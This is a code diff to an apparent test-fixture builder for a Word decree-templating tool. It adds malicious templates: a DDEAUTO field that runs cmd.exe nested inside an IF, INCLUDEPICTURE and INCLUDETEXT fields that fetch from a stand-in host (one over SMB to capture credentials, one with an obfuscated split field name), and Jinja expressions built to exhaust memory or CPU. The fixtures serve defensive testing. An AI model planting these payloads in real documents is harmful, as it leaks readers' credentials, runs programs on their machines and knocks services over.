@@ -209,3 +209,43 @@ def make_guard(folder: Path) -> None:
     (folder / "kembar.docx").write_bytes(kpu_docs.render_bytes(kpu_docs.load(FILES / "dasar.yaml")))
     (folder / "kembar.yaml").write_bytes((FILES / "dasar.yaml").read_bytes())
     template(folder / "templat-sama", lambda name, content: content)
+    field_template(folder / "templat-includepicture", "word/document.xml", b"<w:body>", _INCLUDEPICTURE)
+    field_template(folder / "templat-includetext", "word/header1.xml", b"</w:hdr>", _INCLUDETEXT)
+    field_template(folder / "templat-ddeauto", "word/footer1.xml", b"</w:ftr>", _DDEAUTO)
+    for name, expression in _EXHAUSTING.items():
+        code_template(folder / f"templat-{name}", expression)
+
+
+_INCLUDEPICTURE = (b'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE  &quot;\\\\contoh.invalid\\share\\logo.png&quot; '
+                   b'\\d "><w:r><w:t>logo</w:t></w:r></w:fldSimple></w:p>')
+"""A picture Word fetches over SMB as the decree opens, handing the server the reader's credentials."""
+_INCLUDETEXT = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+                b'<w:r><w:instrText xml:space="preserve"> Include</w:instrText></w:r>'
+                b'<w:r><w:instrText xml:space="preserve">text "http://contoh.invalid/isi.docx" </w:instrText></w:r>'
+                b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>isi</w:t></w:r>'
+                b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+"""Text fetched from a web address, its field name split across runs and in mixed case."""
+_DDEAUTO = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> IF 1 = 1 "'
+            b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            b'<w:r><w:instrText xml:space="preserve"> ddeauto c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:r>'
+            b'<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText xml:space="preserve">" </w:instrText></w:r>'
+            b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+"""A program run as the decree opens, nested inside an IF field."""
+_EXHAUSTING = {
+    "teks-raksasa": b"{{ 'A' * 10**9 }}",
+    "center-raksasa": b"{{ jabatan_penetap.center(2000000000) }}",
+    "replace-bom": b"{% set a = 'a' * 1000 %}{% set b = a.replace('a', a) %}{{ b.replace('a', b) }}",
+    "daftar-raksasa": b"{{ ([0] * 10**8)|length }}",
+    "range-bersarang": b"{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
+    "rekursi": b"{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
+    "overflow": b"{{ 10**400 / 1.0 }}",
+}
+"""Templates that would take gigabytes or hours, or end in a Python exception (tracebacks before)."""
+
+
+def field_template(folder: Path, part: str, before: bytes, field: bytes) -> Path:
+    """A template with `field` inserted in `part` (after <w:body>, or before the part's last tag)."""
+    def insert(content: bytes) -> bytes:
+        return content.replace(before, before + field, 1) if before == b"<w:body>" else content.replace(before, field + before, 1)
+
+    return template(folder, _only(part, insert))
